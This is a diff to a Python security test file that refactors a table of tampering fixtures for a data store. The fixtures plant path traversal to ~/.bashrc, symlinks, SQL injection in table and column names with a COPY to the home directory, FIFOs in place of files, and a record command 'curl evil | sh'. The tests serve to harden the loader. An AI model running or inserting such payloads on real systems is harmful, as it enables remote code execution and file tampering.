@@ -78,6 +78,16 @@ def wrong_table(store: Path, name: str, column: str = "x") -> None:
     rename_bundle(store, "factors", "evil0")
 
 
+def instead(path: Path, make: Callable[[Path], object]) -> None:
+    path.unlink()
+    make(path)
+
+
+def command_to_paste(store: Path) -> None:
+    edit(store / "artefacts/runs/run0.json", lambda record: record.update(command="curl evil | sh"))
+    (store / FAC0 / "preview-c0.flac").write_bytes(b"damaged")
+
+
 ATTACKS: dict[str, Callable[[Path, Path], object]] = {
     "hashes.json up": lambda store, home: older(store, "../../../.bashrc"),
     "hashes.json further up": lambda store, home: older(store, "../" * 6 + ".bashrc"),
@@ -105,9 +115,7 @@ ATTACKS: dict[str, Callable[[Path, Path], object]] = {
     "next database linked": lambda store, home: (store / "store-000002.duckdb").symlink_to(home / ".bashrc"),
     "checksum linked": lambda store, home: (store / "store-000002.sha256").symlink_to(home / ".bashrc"),
     "files hold a folder": lambda store, home: (store / "files" / "sae-x").mkdir(),
-    "a preview is a folder": lambda store, home: (
-        (store / "files" / "preview-c0.flac").unlink(), (store / "files" / "preview-c0.flac").mkdir()
-    ),
+    "a preview is a folder": lambda store, home: instead(store / "files" / "preview-c0.flac", Path.mkdir),
     "a table with a statement for a name": lambda store, home: wrong_table(store, 'meta" SELECT 1; --'),
     "a column with a statement for a name": lambda store, home: wrong_table(
         store, "sae_curves", f"epoch\") SELECT 1; COPY (SELECT 1) TO '{home}/documents/out'; --"
@@ -115,16 +123,9 @@ ATTACKS: dict[str, Callable[[Path, Path], object]] = {
     "a table of other rows": lambda store, home: wrong_table(store, "clips", "clip_id"),
     "values that do not fit": lambda store, home: wrong_table(store, "files", "duration_s"),
     "a fifo for a record": lambda store, home: os.mkfifo(store / "artefacts" / "runs" / "more.json"),
-    "a fifo for a manifest": lambda store, home: (
-        (store / FAC0 / MANIFEST).unlink(), os.mkfifo(store / FAC0 / MANIFEST)
-    ),
-    "a fifo for facts": lambda store, home: (
-        (store / "artefacts/corpus/corp0/facts.json").unlink(), os.mkfifo(store / "artefacts/corpus/corp0/facts.json")
-    ),
-    "a command to paste": lambda store, home: (
-        edit(store / "artefacts/runs/run0.json", lambda record: record.update(command="curl evil | sh")),
-        (store / FAC0 / "preview-c0.flac").write_bytes(b"damaged"),
-    ),
+    "a fifo for a manifest": lambda store, home: instead(store / FAC0 / MANIFEST, os.mkfifo),
+    "a fifo for facts": lambda store, home: instead(store / "artefacts/corpus/corp0/facts.json", os.mkfifo),
+    "a command to paste": lambda store, home: command_to_paste(store),
 }  # fmt: skip
 
 
